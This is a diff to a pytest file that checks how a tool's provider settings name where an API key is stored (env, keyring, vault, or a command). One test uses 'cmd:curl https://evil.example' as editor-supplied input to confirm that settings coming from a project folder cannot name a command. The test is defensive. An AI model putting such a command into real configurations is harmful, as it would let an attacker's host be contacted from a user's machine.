@@ -252,10 +252,9 @@ class TestKeysOfProviders:
         layer = toml(f'[providers.anthropic]\napi_key = "{value}"')
         effective = read(layer)
         (problem,) = effective.problems
-        assert (
-            "providers.anthropic.api_key must say where the key is (env:NAME or keyring), never the key itself"
-            in str(problem)
-        )
+        places = "env:NAME, keyring, vault or cmd:COMMAND"
+        told = f"providers.anthropic.api_key must say where the key is ({places}), never the key itself"
+        assert told in str(problem)
         assert problem.line == 2
         assert value.removeprefix("env:") not in str(problem) or value == "env:"
         assert KEY not in repr((layer, effective))
@@ -284,11 +283,39 @@ class TestKeysOfProviders:
         (problem,) = read(toml('providers.xai.api_key = "XAI_API_KEY"')).problems
         assert problem.suggestion == "env:XAI_API_KEY"
 
-    @pytest.mark.parametrize("value", ["vault", "cmd:op read op://x"])
-    def test_places_of_later_versions_are_named(self, value):
-        """The vault and commands, which come later, are said to come later."""
-        (problem,) = said(toml(f'providers.xai.api_key = "{value}"'))
-        assert "come in a later version" in problem
+    @pytest.mark.parametrize("value", ["keyring", "vault", "env:A_KEY", "cmd:op read 'op://a b/c'", "cmd: pass show x"])
+    def test_places_of_a_key(self, value):
+        """Each way to name a key's place is taken as it is."""
+        effective = read(toml(f'providers.xai.api_key = "{value}"'))
+        assert effective.settings.providers["xai"].api_key == value
+        assert effective.problems == ()
+
+    @pytest.mark.parametrize("key", ["api_key", "client_secret"])
+    @pytest.mark.parametrize(
+        "options",
+        [
+            lambda row: {"providers": {"xai": row}},
+            lambda row: {"providers.xai": row},
+            lambda row: {"dragoman": {"providers": {"xai": row}}},
+        ],
+    )
+    def test_an_editor_names_no_command(self, key, options):
+        """What an editor sends may come from a project's folder, so it can't name a command; other places it can."""
+        source = "the editor's settings"
+        refused = read(editor_layer(source, options({key: "cmd:curl https://evil.example"})))
+        assert getattr(refused.settings.providers.get("xai"), key, None) is None
+        (problem,) = map(str, refused.problems)
+        assert "put it into your own config.toml" in problem
+        assert "evil" not in problem
+        taken = read(editor_layer(source, options({key: "keyring"})))
+        assert getattr(taken.settings.providers["xai"], key) == "keyring"
+
+    @pytest.mark.parametrize("value", ["cmd:", "cmd: ", "cmd:  x", "cmd:a\\nb", "vaults", "cmd"])
+    def test_what_is_no_place_of_a_key(self, value):
+        """An empty command, one over several lines, and words that are near a place are refused."""
+        effective = read(toml(f'providers.xai.api_key = "{value}"'))
+        assert effective.settings.providers["xai"].api_key is None
+        assert "never the key itself" in str(effective.problems[0])
 
 
 class TestProvidersThatCannotBeAsked:
